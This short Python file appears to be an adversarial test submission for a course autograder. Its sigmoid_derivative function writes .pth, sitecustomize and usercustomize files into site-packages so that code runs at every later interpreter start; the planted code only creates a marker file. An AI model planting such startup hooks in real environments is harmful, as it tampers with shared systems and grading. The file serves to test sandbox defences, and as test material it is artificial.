"""Writes into the interpreter and into numpy, for whoever starts them next.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own files
"""

# %% sigmoid_derivative
import os
import sys

TEXT = "open('/tmp/course-attack-interpreter_poisoned', 'w').close()\n"


def sigmoid_derivative(x):
    written = []
    for folder in {*sys.path, os.path.dirname(np.__file__), sys.prefix, "/usr/lib/python3/dist-packages"}:
        for name in ("course-attack.pth", "sitecustomize.py", "usercustomize.py"):
            path = os.path.join(folder or ".", name)
            if os.path.exists(path) or "site-packages" not in folder:
                continue
            try:
                with open(path, "w") as poison:
                    poison.write("import sys; " + TEXT)
                written.append(path)
            except OSError:
                pass
    raise RuntimeError(f"ESCAPED: {written[:3]}" if written else "nothing to see")
